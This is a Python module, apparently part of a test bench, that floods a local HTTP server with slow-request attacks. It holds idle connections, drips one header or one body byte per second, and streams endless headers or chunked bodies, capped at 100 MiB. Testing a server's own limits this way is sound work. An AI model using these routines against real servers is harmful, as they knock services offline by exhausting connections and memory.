"""Attacks with connections whose request never ends."""

import asyncio

from bench.floods.attack import Attack

HEAD = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"
POST = (
    b"POST /workout/finish HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    b"Content-Length: 60000\r\n\r\n{"
)
CHUNKED = b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
CHUNK = b"10000\r\n" + b"a" * 0x10000 + b"\r\n"
DRIP_S = 1.0
# enough to see that there is no limit, without filling the memory or the disk
MOST_BYTES = 100 * 2**20


async def say_nothing(attack: Attack, which: int) -> None:
    async with attack.open_stream() as (reader, _):
        attack.done["open"] += 1
        await reader.read()


async def drip_headers(attack: Attack, which: int) -> None:
    """Send a header a second."""
    await drip(attack, HEAD, b"X-Slow: a\r\n")


async def drip_body(attack: Attack, which: int) -> None:
    """Send a byte of a body a second."""
    await drip(attack, POST, b" ")


async def drip(attack: Attack, start: bytes, drop: bytes) -> None:
    async with attack.open_stream() as (reader, writer):
        attack.done["open"] += 1
        writer.write(start)
        while not reader.at_eof():
            writer.write(drop)
            await writer.drain()
            await asyncio.sleep(DRIP_S)


async def send_endless_header(attack: Attack, which: int) -> None:
    async with attack.open_stream() as (_, writer):
        writer.write(HEAD + b"X-Long: ")
        await attack.pour(writer, b"a" * 65536, "KiB", 64, MOST_BYTES)


async def send_endless_headers(attack: Attack, which: int) -> None:
    async with attack.open_stream() as (_, writer):
        writer.write(HEAD)
        await attack.pour(writer, b"X: a\r\n" * 10_000, "headers", 10_000, MOST_BYTES)


async def send_endless_body(attack: Attack, which: int) -> None:
    async with attack.open_stream() as (_, writer):
        writer.write(CHUNKED)
        await attack.pour(writer, CHUNK, "KiB", 64, MOST_BYTES)
